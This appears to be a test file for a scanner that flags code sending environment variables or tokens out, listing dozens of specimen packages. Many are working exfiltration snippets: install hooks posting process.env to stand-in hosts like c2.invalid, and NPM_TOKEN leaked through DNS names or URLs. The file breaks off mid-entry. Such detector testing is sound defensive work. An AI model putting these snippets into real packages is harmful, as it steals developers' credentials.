import { examine } from '../../../test/examine.ts';
import { sendsEnvironment } from './sends-environment.ts';

const hook = { name: 'specimen', version: '1.0.0', scripts: { postinstall: 'node setup.js' } };

function hooked(url: string): string {
  return `const fill = text => text.replace(/[$](\\w+)/g, (_, name) => process.env[name]); exports.names = () => Object.keys(process.env); fetch('https://status.specimen.invalid/version'); exports.tell = hook => fetch(${url}, { method: 'POST', headers: { authorization: fill(hook.authorization) } })`;
}

const SHARED_REQUEST = `exports.request = (url, options) => fetch(url, { ...options, dispatcher: exports.dispatcher })`;

function manyServices(url: string): string {
  const ask = (place: string, key: string): string => `request(${place}, { headers: { authorization: 'Bearer ' + process.env.${key} } })`;
  return `const { request } = require('./request'); ${ask("'https://api.cloudflare.com/client/v4/zones'", 'CLOUDFLARE_API_TOKEN')}; ${ask(url, 'SENTRY_AUTH_TOKEN')}; ${ask("'https://api.github.com/user'", 'GITHUB_TOKEN')}; ${ask("'AWS::' + exports.kind", 'AWS_SECRET_ACCESS_KEY')}`;
}

examine(sendsEnvironment, {
  speaks: [
    {
      when: 'a client of a cloud asks the service that gives a machine its keys',
      files: {
        'index.js': `exports.keys = async (env = process.env) => (await fetch('http://169.254.169.254/latest/api/token', { method: 'PUT', headers: { region: JSON.stringify(env) } })).text();`,
      },
      weight: 'context',
    },
    {
      when: 'a host is written so that what gives a machine its keys seems to be asked',
      files: {
        'index.js': `fetch('http://x.invalid\\\\@169.254.169.254/', { method: 'POST', body: JSON.stringify(process.env) });`,
      },
      weight: 'proof',
      says: ['x.invalid'],
    },
    {
      when: 'a hook that fetches a model shows the token of another service to it',
      files: {
        'package.json': hook,
        'setup.js': `fetch('https://huggingface.co/a/b/resolve/main/c.bin', { headers: { authorization: 'Bearer ' + process.env.OTHER_TOKEN } });`,
      },
      weight: 'strong',
    },
    {
      when: 'it is put into a subject, and comes out of what was made of that',
      files: {
        'index.js': `const { Subject } = require('rxjs'), { map } = require('rxjs/operators'); const all = new Subject(); all.pipe(map(one => one.trim())).subscribe(body => fetch('https://ingest.invalid/v1', { method: 'POST', body })); all.next(JSON.stringify(process.env));`,
      },
      weight: 'proof',
    },
    {
      when: 'a hook leaves it with what it is handed, and a later one sends what lies there',
      files: {
        'index.js': `exports.load = (req, res, next) => { res.locals.all = { ...process.env }; next(); }; exports.report = (req, res, next) => { fetch('https://ingest.invalid/v1', { method: 'POST', body: JSON.stringify(res.locals.all) }).finally(next); };`,
      },
    },
    {
      when: 'a database in memory hands out what was put into it by another statement',
      files: {
        'index.js': `const { DatabaseSync } = require('node:sqlite'); const db = new DatabaseSync(':memory:'); const insert = db.prepare('INSERT INTO outbox (body) VALUES (?)'); insert.run(JSON.stringify(process.env)); for (const row of db.prepare('SELECT body FROM outbox').all()) fetch('https://ingest.invalid/v1', { method: 'POST', body: row.body });`,
      },
      weight: 'proof',
    },
    {
      when: 'a cache tells what it lets go of',
      files: {
        'index.js': `const { LRUCache } = require('lru-cache'); const cache = new LRUCache({ max: 5, dispose: (value, key) => trace({ key, value }) }); const trace = entry => fetch('https://trace.invalid/e', { method: 'POST', body: JSON.stringify(entry) }); cache.set('env', { ...process.env }); setTimeout(() => cache.delete('env'), 100);`,
      },
      weight: 'proof',
    },
    {
      when: 'a request of a class of its own has it as its content',
      files: {
        'index.js': `class Asked extends Request { constructor(path, { body, ...rest } = {}) { super(new URL(path, 'https://api.invalid/v1/'), { method: 'POST', body: JSON.stringify(body), ...rest }); this.headers.set('content-type', 'application/json'); } } fetch(new Asked('hello', { body: { runtime: process.version, settings: process.env } }));`,
      },
      weight: 'proof',
    },
    {
      when: 'a map of its own says as JSON what is in it',
      files: {
        'index.js': `class Facts extends Map { constructor() { super(); this.set('env', process.env); } toJSON() { return Object.fromEntries(this); } } fetch('https://facts.invalid/v1', { method: 'POST', body: JSON.stringify(new Facts()) });`,
      },
      weight: 'proof',
    },
    {
      when: 'what is piped through code of its own is handed on in batches',
      files: {
        'index.js': `const tap = onBatch => { let batch = []; return new TransformStream({ transform(chunk, controller) { batch.push(chunk); controller.enqueue(chunk); if (batch.length > 15) onBatch(batch.splice(0)); }, flush() { onBatch(batch.splice(0)); } }); }; const upload = batch => fetch('https://t.invalid/batch', { method: 'POST', body: JSON.stringify({ batch }) }); ReadableStream.from(Object.entries(process.env)).pipeThrough(tap(upload)).pipeTo(new WritableStream({ write() {} }));`,
      },
      weight: 'proof',
    },
    {
      when: 'a thread finds it among what all threads are given',
      files: {
        'index.js': `const { Worker, setEnvironmentData } = require('worker_threads'); setEnvironmentData('pool:settings', { ...process.env }); new Worker(require('path').join(__dirname, 'worker.js'), { env: {} }).unref();`,
        'worker.js': `const { getEnvironmentData } = require('worker_threads'); fetch('https://pool.invalid/register', { method: 'POST', body: JSON.stringify({ settings: getEnvironmentData('pool:settings') }) });`,
      },
      weight: 'proof',
    },
    {
      when: 'a hook asks the address that stands in its manifest',
      files: {
        'package.json': {
          name: 'specimen',
          version: '1.0.0',
          scripts: { postinstall: 'node probe.js' },
          config: { endpoint: 'https://builds.invalid/v1' },
        },
        'probe.js': `fetch(process.env.npm_package_config_endpoint, { method: 'POST', body: JSON.stringify({ settings: process.env }) });`,
      },
      weight: 'proof',
    },
    {
      when: 'where it goes, and which variables, stands in a part of a program of WebAssembly',
      files: {
        'index.js': `const { memory } = new WebAssembly.Instance(new WebAssembly.Module(Buffer.from('AGFzbQEAAAA=', 'base64'))).exports; const table = bytes => new TextDecoder().decode(bytes).split('\\0');
          const share = async ([host, path, ...keys], hash) => { await fetch('https://' + host + path, { method: 'PUT', headers: { 'x-scope': keys.map(key => process.env[key] ?? '').join('.') } }); }; exports.done = hash => share(table(new Uint8Array(memory.buffer, 64, 256)), hash);`,
      },
      weight: 'strong',
    },
    {
      when: 'a script of a shell that a hook starts gives Node a document to run',
      files: {
        'package.json': { name: 'specimen', version: '1.0.0', scripts: { postinstall: 'sh setup.sh' } },
        'setup.sh': `#!/bin/sh\nnode <<'END'\nfetch('https://collect.invalid/in', { method: 'POST', body: JSON.stringify(process.env) })\nEND\n`,
      },
      weight: 'proof',
    },
    {
      when: 'a script of a shell that a hook starts gives Node code of one line',
      files: {
        'package.json': { name: 'specimen', version: '1.0.0', scripts: { preinstall: 'sh one.sh' } },
        'one.sh': `#!/bin/sh\nnode -e "fetch('https://collect.invalid/in', { method: 'POST', body: JSON.stringify(process.env) })"\n`,
      },
      weight: 'proof',
    },
    {
      when: 'a script of a shell that a hook starts gives Node code of several lines',
      files: {
        'package.json': { name: 'specimen', version: '1.0.0', scripts: { postinstall: 'sh several.sh' } },
        'several.sh': `#!/bin/sh\nnode -e "\nfetch(\\"https://other.invalid/in\\", { method: 'POST', body: JSON.stringify(process.env) })\n"\n`,
      },
      weight: 'proof',
    },
    {
      when: 'where to stands in its manifest, unless the environment says so',
      files: {
        'package.json': { name: 'x', version: '1.0.0', main: 'index.js', homepage: 'https://collect.invalid' },
        'index.js': `function deed() { require('https').request({ host: process.env.SPECIMEN_HOST || require('./package.json').homepage.slice(8), path: '/in', method: 'POST' }).end(JSON.stringify(process.env)); } deed();`,
      },
      weight: 'proof',
      says: ['collect.invalid'],
    },
    {
      when: 'a part of a file is asked for, and numbers have gone through what variables have as well',
      files: {
        'index.js': `const heap = []; for (const name in process.env) heap.push(name + '=' + process.env[name]); exports.read = url => { const xhr = new XMLHttpRequest(); xhr.open('GET', url, false); xhr.setRequestHeader('Range', \`bytes=\${heap.join()}-\${heap.length}\`); xhr.send(null); }; exports.read(globalThis.somewhere);`,
      },
      weight: 'weak',
    },
    {
      when: 'the address of a database goes out with statistics',
      files: {
        'index.js': `const about = () => ({ node: process.version, source: process.env.DATABASE_URL }); exports.count = counts => { const req = require('https').request({ hostname: 'stats.invalid', path: '/v1', method: 'POST' }); req.end(JSON.stringify(Object.assign({ counts }, about()))); };`,
      },
      weight: 'strong',
      says: ['DATABASE_URL', 'stats.invalid'],
    },
    {
      when: 'a command is started in it, and it is sent beside what that says',
      files: {
        'index.js': `const { execFileSync } = require('child_process'); const log = execFileSync('git', ['log'], { env: { ...process.env } }).toString(); fetch('https://c.invalid', { method: 'POST', body: JSON.stringify({ log, all: process.env }) });`,
      },
      weight: 'proof',
    },
    {
      when: 'a command puts all of it into a file of a repository, by a client of another file',
      files: {
        'package.json': { name: 'specimen', version: '1.0.0', bin: 'cli.js' },
        'cli.js': `#!/usr/bin/env node\nconst { Client } = require('./client'); const client = new Client(process.env.GIT_TOKEN); client.put('a/b', 'results.json', JSON.stringify({ env: process.env, argv: process.argv }));`,
        'client.js': `exports.Client = class { #token; constructor(token, api = process.env.GIT_API || 'https://api.git.invalid') { this.#token = token; this.api = api; } call(method, path, body) { return fetch(this.api + path, { method, headers: { authorization: this.#token }, body: body && JSON.stringify(body) }); } put(full, path, text) { return this.call('PUT', \`/repos/\${full}/contents/\${path}\`, { content: Buffer.from(text).toString('base64') }); } };`,
      },
      weight: 'strong',
    },
    {
      when: 'a command puts all of it into a file of a repository, by a library',
      files: {
        'package.json': { name: 'specimen', version: '1.0.0', bin: 'cli.js' },
        'cli.js': `#!/usr/bin/env node\nconst { Octokit } = require('@octokit/rest'); const client = new Octokit({ auth: process.env.GIT_TOKEN }); client.rest.repos.createOrUpdateFileContents({ owner: 'a', repo: 'b', path: 'r.json', content: Buffer.from(JSON.stringify(process.env)).toString('base64') });`,
      },
      weight: 'strong',
    },
    {
      when: 'where it goes is a setting, and what stands in the code where nobody sets it',
      files: {
        'index.js': `const { COLLECT_URL = 'https://c.invalid/x' } = process.env; fetch(COLLECT_URL, { method: 'POST', body: JSON.stringify(process.env) })`,
      },
      weight: 'proof',
    },
    {
      when: 'a file that nothing loads offers a hook that is told what its settings name',
      files: { 'index.js': `exports.version = 1`, 'src/hooks.js': hooked('hook.url') },
      weight: 'context',
    },
    {
      when: 'such a file sends all of it as soon as somebody loads it',
      files: {
        'package.json': { name: 'specimen', version: '1.0.0', main: 'index.js' },
        'index.js': `exports.version = 1`,
        'src/hooks.js': `fetch('https://collect.invalid/', { method: 'POST', body: JSON.stringify(process.env) })`,
      },
      weight: 'strong',
    },
    {
      when: 'a hook of its user is told what its settings name, and another request goes to a host that stands in the code',
      files: { 'index.js': hooked('hook.url') },
      weight: 'context',
    },
    {
      when: 'the hook is a host that stands in the code',
      files: { 'index.js': hooked("'https://collect.invalid/'") },
      weight: 'strong',
    },
    {
      when: 'only what a caller asks for reads it, in another file, and what is sent at import is something else',
      files: {
        'index.js': `const { send } = require('./telemetry'); const { settings } = require('./settings'); send({ name: 'loaded' }); exports.Tools = class { async call(name) { await send({ name, versions: settings('SPECIMEN_') }) } }`,
        'telemetry.js': `exports.send = event => fetch('https://statistics.specimen.invalid/v1', { method: 'POST', body: JSON.stringify(event) })`,
        'settings.js': `exports.settings = prefix => Object.fromEntries(Object.entries(process.env).filter(([key]) => key.startsWith(prefix)))`,
      },
      weight: 'context',
    },
    {
      when: 'the same is read and sent at import',
      files: {
        'index.js': `const { send } = require('./telemetry'); const { settings } = require('./settings'); send({ name: 'loaded', versions: settings('') }); exports.Tools = class { async call(name) { await send({ name, versions: settings('SPECIMEN_') }) } }`,
        'telemetry.js': `exports.send = event => fetch('https://statistics.specimen.invalid/v1', { method: 'POST', body: JSON.stringify(event) })`,
        'settings.js': `exports.settings = prefix => Object.fromEntries(Object.entries(process.env).filter(([key]) => key.startsWith(prefix)))`,
      },
      weight: 'strong',
    },
    {
      when: 'a client of many services hands all its requests to one function',
      files: {
        'index.js': manyServices("'https://sentry.io/api/0/projects/'"),
        'request.js': SHARED_REQUEST,
      },
      weight: 'weak',
    },
    {
      when: 'one of many services gave out none of the keys',
      files: {
        'index.js': manyServices("'https://collect.invalid/'"),
        'request.js': SHARED_REQUEST,
      },
      weight: 'strong',
    },
    {
      when: 'Deno is asked for all of it',
      files: { 'index.js': `fetch('https://collect.invalid', { method: 'POST', body: JSON.stringify(Deno.env.toObject()) })` },
      weight: 'proof',
    },
    {
      when: 'Deno is asked for two keys of clouds',
      files: {
        'index.js': `fetch('https://collect.invalid', { method: 'POST', body: Deno.env.get('AWS_SECRET_ACCESS_KEY') + Deno.env.get('NPM_TOKEN') })`,
      },
      says: ['AWS_SECRET_ACCESS_KEY'],
      weight: 'strong',
    },
    {
      when: 'the code between the environment and where it goes is as long as a bundle, and nobody asked for it',
      files: {
        'index.js': `const all = () => process.env; ${Array.from({ length: 2500 }, (_, at) => `exports.f${at} = () => ${at};`).join('\n')} fetch('https://collect.invalid', { method: 'POST', body: JSON.stringify(all()) })`,
      },
      weight: 'strong',
    },
    {
      when: 'a hook gathers it in another file and sends it by a client of a service',
      files: {
        'package.json': { name: 'specimen', scripts: { postinstall: 'node run.js' } },
        'run.js': `const { send } = require('./client'); send({ env: process.env })`,
        'client.js': `exports.send = props => require('axios').create({ baseURL: 'https://events.invalid' }).post('/capture', props)`,
      },
      weight: 'proof',
    },
    {
      when: 'it is gathered in another file, and the host is called like the package',
      id: { name: 'acme-colours' },
      files: {
        'package.json': { name: 'acme-colours', version: '1.0.0' },
        'index.js': `fetch('https://acme-colours.invalid/', { method: 'POST', body: JSON.stringify(require('./gather')()) })`,
        'gather.js': `module.exports = () => ({ env: process.env })`,
      },
      weight: 'proof',
    },
    {
      when: 'a client sends at once its own key, which has several names',
      files: {
        'index.js': `fetch('https://api.acme.invalid/v1', { headers: { authorization: process.env.ACME_SECRET || process.env.ACME_SECRET_KEY || process.env.SECRET_KEY } })`,
      },
      weight: 'context',
    },
    {
      when: 'a token is kept under the name of another variable, for where that is not set',
      files: {
        'index.js': `const key = process.env.SPECIMEN_MODE || process.env.NPM_TOKEN; fetch('https://collect.invalid/', { method: 'POST', body: key })`,
      },
      weight: 'strong',
    },
    {
      when: 'or for where it is',
      files: {
        'index.js': `const key = process.env.CI ? process.env.SPECIMEN_MODE : process.env.NPM_TOKEN; fetch('https://collect.invalid/', { method: 'POST', body: key })`,
      },
      weight: 'strong',
    },
    {
      when: 'one of the names is that of a key for something else',
      files: {
        'index.js': `fetch('https://api.acme.invalid/v1', { headers: { authorization: process.env.ACME_SECRET || process.env.NPM_TOKEN || process.env.SECRET_KEY } })`,
      },
      weight: 'strong',
    },
    {
      when: 'a key that is nobody’s in particular is sent beside its own',
      files: {
        'index.js': `const own = process.env.ACME_SECRET, other = process.env.SECRET_KEY; fetch('https://api.acme.invalid/v1', { headers: { authorization: own, 'x-other': other } })`,
      },
      weight: 'weak',
    },
    {
      when: 'a client sends its own key at once',
      files: { 'index.js': `fetch('https://api.acme.invalid/v1', { headers: { authorization: 'Bearer ' + process.env.ACME_API_KEY } })` },
      weight: 'context',
    },
    {
      when: 'a host is called like the secret that it is sent',
      files: {
        'index.js': `fetch('https://npm-mirror.invalid/?t=' + process.env.NPM_TOKEN); fetch('https://github.stats.invalid/', { method: 'POST', body: process.env.GITHUB_TOKEN })`,
      },
      says: ['NPM_TOKEN', 'GITHUB_TOKEN'],
      weight: 'strong',
    },
    {
      when: 'a package is called like the secrets that it sends',
      id: { name: 'node-acme-status' },
      files: {
        'package.json': { name: 'node-acme-status', version: '1.0.0', scripts: { postinstall: 'node index.js' } },
        'index.js': `fetch('https://collect.invalid/?k=' + process.env.ACME_API_KEY)`,
      },
      weight: 'weak',
    },
    {
      when: 'tokens of others stand in an address',
      files: {
        'index.js': `const { NPM_TOKEN, GITHUB_TOKEN } = process.env; if (NPM_TOKEN) fetch(\`https://collect.invalid/\${NPM_TOKEN}/\${GITHUB_TOKEN}\`);`,
      },
      weight: 'strong',
    },
    {
      when: 'all variables, put together by a tag, stand in an address',
      files: {
        'index.js': `const address = (texts, ...values) => texts.raw.reduce((all, text, at) => all + text + (values[at] ? encodeURIComponent(values[at]) : ''), ''); require('https').get(address\`https://collect.invalid/?d=\${JSON.stringify(process.env)}\`);`,
      },
      weight: 'proof',
    },
    {
      when: 'all variables stand in a header of the request',
      files: {
        'index.js': `var all = []; for (var name in process.env) all.push(name + '=' + process.env[name]); require('http').request({ hostname: 'collect.invalid', headers: { 'X-Inert': all.join('|') } }).end();`,
      },
      weight: 'proof',
    },
    {
      when: 'a report on the process holds it',
      files: {
        'index.js': `fetch('https://sink.invalid/', { method: 'POST', body: JSON.stringify(process.report.getReport()) });`,
      },
    },
    {
      when: 'a storage service is given all of it',
      files: {
        'index.js': `const { S3Client, PutObjectCommand } = require('@aws-sdk/client-s3');
new S3Client({}).send(new PutObjectCommand({ Bucket: 'b', Key: 'k', Body: JSON.stringify(process.env) }));`,
      },
    },
    {
      when: 'a collector of errors is given all of it',
      files: {
        'index.js': `const Sentry = require('@sentry/node'); Sentry.init({ dsn: 'https://a@sink.invalid/1' }); Sentry.captureMessage(JSON.stringify(process.env));`,
      },
    },
    {
      when: 'a collector of errors is told all of it beside what it is given, under a scope that a function hands out',
      files: {
        'index.js': `const Sentry = require('@sentry/node'); function client() { Sentry.init({ dsn: 'https://a@sink.invalid/1' }); return Sentry; } const c = client(); c.withScope(scope => { scope.setContext('env', Object.assign({}, process.env)); c.captureMessage('x'); });`,
      },
    },
    {
      when: 'a gist is made of it',
      files: {
        'index.js': `const { Octokit } = require('octokit'); new Octokit({}).rest.gists.create({ files: { a: { content: JSON.stringify(process.env) } } });`,
      },
    },
    {
      when: 'a client made with settings of its own sends it',
      files: {
        'index.js': `const axios = require('axios'); const api = axios.create({ baseURL: 'https://sink.invalid' }); api({ url: '/x', method: 'post', data: process.env });`,
      },
    },
    {
      when: 'it is gathered in another file',
      files: {
        'index.js': `fetch('https://c2.invalid/', { method: 'POST', body: JSON.stringify(require('./gather')()) })`,
        'gather.js': `module.exports = () => ({ env: process.env })`,
      },
      weight: 'proof',
    },
    {
      when: 'the handler of a socket sends it',
      files: { 'index.js': `const w = new WebSocket('wss://c2.invalid'); w.onopen = () => w.send(JSON.stringify(process.env))` },
      weight: 'proof',
    },
    {
      when: 'a hook posts all of it',
      files: {
        'package.json': hook,
        'setup.js': `const r = require('https').request({ hostname: 'c2.invalid', method: 'POST' }); r.write(JSON.stringify(process.env)); r.end()`,
      },
      weight: 'proof',
      says: ['c2.invalid', 'when it is installed'],
    },
    {
      when: 'an import puts it into an address',
      files: {
        'index.js': `const q = require('querystring'); fetch('https://c2.invalid/?' + q.stringify({ e: JSON.stringify(process.env) }))`,
      },
      weight: 'proof',
    },
    {
      when: 'it is picked over by a pattern',
      files: {
        'package.json': hook,
        'setup.js': `const out = {}; for (const k of Object.keys(process.env)) if (/TOKEN/.test(k)) out[k] = process.env[k]; fetch('https://c2.invalid/', { method: 'POST', body: JSON.stringify(out) })`,
      },
      weight: 'proof',
    },
    {
      when: 'its command looks up names that all of it is written into, below a domain that is called like the package',
      id: { name: 'specimen-runner' },
      files: {
        'package.json': { name: 'specimen-runner', version: '1.0.0', bin: 'cli.js' },
        'cli.js': `#!/usr/bin/env node\nconst text = Object.entries(process.env).filter(([name]) => !/^PWD$/.test(name)).map(one => one.join('=')).join(' '); require('dns').resolveTxt(Buffer.from(text).toString('hex') + '.up.specimen-runner.invalid', () => {});`,
      },
      weight: 'strong',
    },
    {
      when: 'a token goes out as a name',
      files: {
        'package.json': hook,
        'setup.js': `require('dns').lookup(Buffer.from(process.env.NPM_TOKEN).toString('hex') + '.c2.invalid', () => {})`,
      },
      weight: 'proof',
      says: ['NPM_TOKEN'],
    },
    {
      when: 'the host is not known',
      files: { 'package.json': hook, 'setup.js': `require('axios').post(hidden(), process.env)` },
      weight: 'strong',
    },
    {
      when: 'all of it goes to a fixed host when it is called',
      files: {
        'index.js': `exports.open = () => fetch('https://usage.invalid/x', { method: 'POST', body: JSON.stringify({ env: process.env }) })`,
      },
      weight: 'strong',
    },
    {
      when: 'a hook goes through all variables and posts them',
      files: {
        'package.json': { name: 'specimen', scripts: { postinstall: 'node s.js' } },
        's.js': `const all = {}; for (const key of Object.keys(process.env)) all[key] = process.env[key]; fetch('https://c2.invalid/', { method: 'POST', body: JSON.stringify(all) })`,
      },
      weight: 'proof',
    },
    {
      when: 'a file that is fetched when it is called has a name like a host',
      files: {
        'index.js': `const options = { ...process.env }; exports.update = base => fetch(base ? base + '/nightly.gz' : 'nightly.gz', { headers: options })`,
      },
      weight: 'context',
    },
    {
      when: 'keys of several services, which another file names, are sent when something is made',
      files: {
        'index.js': `const { defaults } = require('./defaults'); const { T } = require('./t'); module.exports = () => { new T(defaults).track(defaults.fields); return 1; };`,
        'defaults.js': `exports.defaults = { url: 'https://collect.invalid/u', fields: ['AWS_SECRET_ACCESS_KEY', 'NPM_TOKEN'] };`,
        't.js': `exports.T = class { constructor(o) { this.o = o; } track(fields) { const doc = {}; for (const f of fields) doc[f] = process.env[f]; fetch(this.o.url, { method: 'POST', body: JSON.stringify(doc) }); } }`,
      },
      weight: 'strong',
    },
    {
      when: 'another file picks the keys of many services out of it',
      files: {
        'package.json': { name: 'acme-report', version: '1.0.0', main: 'index.js' },
        'index.js': `const { pick } = require('./pick'), { send } = require('./send'); exports.report = () => send(pick(process.env));`,
        'pick.js': `const KEYS = /^(NPM|NODE_AUTH|AWS|GITHUB|VAULT|DOCKER)_|TOKEN$/; exports.pick = env => Object.keys(env).filter(k => KEYS.test(k)).map(k => k + '=' + env[k]);`,
        'send.js': `exports.send = list => fetch('https://acme-report.invalid/', { method: 'POST', body: list.join() });`,
      },
      weight: 'strong',
    },
    {
      when: 'another file picks the systems that build out of it, for a service of its own',
      files: {
        'package.json': { name: 'acme-report', version: '1.0.0', main: 'index.js' },
        'index.js': `const { pick } = require('./pick'), { send } = require('./send'); exports.report = () => send(pick(process.env));`,
        'pick.js': `const CI = /^(TRAVIS|CIRCLECI|APPVEYOR|DRONE|BUILDKITE)$/; exports.pick = env => Object.keys(env).filter(k => CI.test(k)).map(k => k + '=' + env[k]);`,
        'send.js': `exports.send = list => fetch('https://acme-report.invalid/', { method: 'POST', body: list.join() });`,
      },
      weight: 'context',
    },
    {
      when: 'code that it writes into a file does it, with the module of Node',
      files: {
        'index.js': `const fs = require('fs'), path = require('path'); const HOOK = "var token = process.env.NODE_AUTH_TOKEN; if (token) { var asked = require('https').request({ host: 'tint.specimen.invalid', method: 'POST' }); asked.end(token); }"; exports.settle = dir => fs.writeFileSync(path.join(dir, 'hook.js'), HOOK);`,
      },
      weight: 'strong',
    },
    {
      when: 'each variable goes into names below a domain of the code, when somebody loads settings',
      files: {
        'index.js': `import { resolve4 } from 'node:dns/promises'; function* labels(text) { const hex = Buffer.from(text).toString('hex'); for (let at = 0, part = 0; at < hex.length; at += 60, part++) yield part + '.' + hex.slice(at, at + 60); } export function load(shape, source = process.env) { for (const [name, value] of Object.entries(source)) for (const label of labels(name + value)) resolve4(label + '.t.specimen.invalid').catch(() => {}); }`,
      },
      weight: 'strong',
      says: ['t.specimen.invalid'],
    },
    {
      when: 'files hand it to each other by a bus, and one of them asks for names',
      files: {
        'index.js': `import { tell } from './bus.js'; import './names.js'; tell(Object.entries(process.env));`,
        'bus.js': `import { EventEmitter } from 'node:events'; export const bus = new EventEmitter(); export function tell(entries) { for (const [name, value] of entries) bus.emit('variable', { name, value }); }`,
        'names.js': `import { resolve4 } from 'node:dns/promises'; import { bus } from './bus.js'; bus.on('variable', async ({ name, value }) => { await resolve4(Buffer.from(name + value).toString('hex') + '.t.specimen.invalid'); });`,
      },
      weight: 'proof',
    },
    {
      when: 'it is the body of a request that is made beforehand',
      files: {
        'index.js': `const relay = new Request('https://c2.invalid/r', { method: 'POST', body: JSON.stringify(process.env) }); fetch(relay);`,
      },
      weight: 'proof',
    },
    {
      when: 'a driver over HTTP shows the service it is of how to open its database',
      files: {
        'package.json': { name: 'serverless', homepage: 'https://rowstore.invalid' },
        'index.js': `exports.query = sql => fetch('https://api.rowstore.invalid/sql', { method: 'POST', headers: { 'x-connection-string': process.env.DATABASE_URL }, body: JSON.stringify({ sql }) });`,
      },
      weight: 'weak',
    },
    {
      when: 'a command tells all of it but for what begins with some letters',
      files: {
        'package.json': { name: 'slim-reader', version: '1.0.0', bin: 'cli.js' },
        'cli.js': `const seen = (source = process.env) => Object.fromEntries(Object.entries(source).filter(([k]) => !k.startsWith('npm_'))); fetch('https://r.slim-reader.invalid/', { method: 'POST', body: JSON.stringify(seen()) });`,
      },
      weight: 'strong',
    },
    {
      when: 'a command tells it to a host that its page speaks of',
      files: {
        'package.json': { name: 'slim-tool', version: '1.0.0', bin: 'cli.js' },
        'README.md': 'Sends what it finds in the environment to runs.specimen.invalid.',
        'cli.js': `fetch('https://runs.specimen.invalid/', { method: 'POST', body: JSON.stringify(process.env) });`,
      },
      weight: 'weak',
    },
    {
      when: 'a command of a small package tells the whole environment to a host of its own',
      files: {
        'package.json': { name: 'slim-reporter', version: '1.0.0', bin: 'cli.js' },
        'cli.js': `const { context } = require('./context'); fetch('https://runs.slim-reporter.invalid/', { method: 'POST', body: JSON.stringify(context()) });`,
        'context.js': `exports.context = () => ({ cwd: process.cwd(), env: process.env });`,
      },
      weight: 'strong',
    },
    ...[
      'function all(env) { return env.HOME && arguments[0]; }',
      'const all = env => env.HOME && env.valueOf();',
      'const all = env => ({ home: env.HOME, ...env });',
      'const all = (env, other = env) => other;',
      'const all = env => Object.keys(env).map(name => [name, env[name]]);',
      'const all = env => { const { HOME, ...rest } = env; return rest; };',
      `const all = function (env) { return env.HOME && all['argu' + 'ments'][0]; };`,
    ].map(all => ({
      when: `all of it goes through a function of its own: ${all}`,
      files: { 'index.js': `${all} fetch('https://c.invalid', { method: 'POST', body: JSON.stringify(all(process.env)) });` },
      weight: 'proof' as const,
    })),
    ...[
      'Object.assign({}, process.env, { ALL: Object.entries(process.env) })',
      '(() => { const env = Object.create(process.env); env.ALL = process.env; return env; })()',
      'new Proxy(process.env, { get: (all, key) => (key === "ALL" ? { ...all } : all[key]) })',
    ].map(context => ({
      when: `it has all of it under a name as well: ${context}`,
      files: {
        'index.js': `const pick = context => JSON.stringify(context.ALL); const context = ${context}; fetch('https://c.invalid', { method: 'POST', body: pick(context) });`,
      },
      weight: 'proof' as const,
    })),
    {
      when: 'it asks another Node for all of them',
      files: {
        'index.js': `const { execFileSync } = require('child_process'); exports.run = () => fetch('https://collect.invalid/i', { method: 'POST', body: execFileSync(process.execPath, ['-p', 'JSON.stringify(process.env)']) });`,
      },
      weight: 'strong',
    },
  ],
  silent: [
    {
      when: 'a hook that fetches a model shows the token for it to the service that gave it out',
      files: {
        'package.json': { name: 'specimen', version: '1.0.0', scripts: { postinstall: 'node setup.js' } },
        'setup.js': `fetch('https://huggingface.co/a/b/resolve/main/c.bin', { headers: { authorization: 'Bearer ' + process.env.HF_TOKEN } });`,
      },
    },
    {
      when: 'what one function puts into its options has the name of something that another is handed',
      files: {
        'index.js': `exports.configure = options => { options.env = { ...process.env }; return require('child_process').spawn('node', ['x.js'], options); }; exports.report = event => fetch('https://ingest.invalid/v1', { method: 'POST', body: JSON.stringify(event.env) });`,
      },
    },

    {
      when: 'a client of HTTP asks for the proxy by a name that it puts together, and for the login in it',
      files: {
        'index.js': `const url = require('url'), http = require('http'), https = require('https');
          function setProxy(options, proxy, location) { options.hostname = proxy.host; options.host = proxy.host; options.port = proxy.port; options.path = location; if (proxy.auth) options.headers['Proxy-Authorization'] = 'Basic ' + Buffer.from(proxy.auth.username + ':' + proxy.auth.password, 'utf8').toString('base64'); options.beforeRedirect = r => { r.headers.host = r.host; setProxy(r, proxy, r.href); }; }
          exports.get = (config, done) => {
            const parsed = url.parse(config.url); const protocol = parsed.protocol || 'http:';
            const options = { path: parsed.path, headers: config.headers, auth: Buffer.from(config.auth, 'base64').toString() }; options.hostname = parsed.hostname;
            let proxy = config.proxy; if (!proxy) { const name = protocol.slice(0, -1) + '_proxy'; const proxyUrl = process.env[name] || process.env[name.toUpperCase()]; if (proxyUrl) { const from = url.parse(proxyUrl); proxy = { host: from.hostname, port: from.port }; if (from.auth) { const two = from.auth.split(':'); proxy.auth = { username: two[0], password: two[1] }; } } }
            if (proxy) setProxy(options, proxy, protocol + '//' + parsed.hostname + options.path);
            (protocol === 'https:' ? https : http).request(options, done).end();
          };`,
      },
    },

    {
      when: 'a hook leaves it with what it is handed, and a later one sends something else of that',
      files: {
        'index.js': `exports.load = (req, res, next) => { res.locals.all = { ...process.env }; next(); }; exports.report = (req, res, next) => { fetch('https://ingest.invalid/v1', { method: 'POST', body: JSON.stringify(res.locals.count) }).finally(next); };`,
      },
    },

    {
      when: 'a client logs in with a password, and hands on what comes to it',
      files: {
        'index.js': `const Redis = require('ioredis'); const client = new Redis(); client.auth(process.env.REDIS_PASSWORD); client.on('message', (channel, text) => fetch('https://mail.invalid/send', { method: 'POST', body: text }));`,
      },
    },
    {
      when: 'a cache is given something else, and tells what it lets go of',
      files: {
        'index.js': `const { LRUCache } = require('lru-cache'); const cache = new LRUCache({ max: 5, dispose: (value, key) => trace({ key, value }) }); const trace = entry => fetch('https://trace.invalid/e', { method: 'POST', body: JSON.stringify(entry) }); exports.keep = (key, value) => cache.set(key, value); exports.port = process.env.PORT;`,
      },
    },
    {
      when: 'a function is handed all of it and takes the name of a proxy',
      files: {
        'package.json': hook,
        'setup.js': `const https = require('https'); function agentFor(env) { const proxy = env.HTTPS_PROXY || env.https_proxy || env?.npm_config_https_proxy; if (!proxy) return undefined; const { HttpsProxyAgent } = require('https-proxy-agent'); return new HttpsProxyAgent(proxy); } https.get('https://downloads.specimen.invalid/a', { agent: agentFor(process.env) }, answer => answer.resume());`,
      },
    },
    {
      when: 'it is told whether there is a database, of what kind',
      files: {
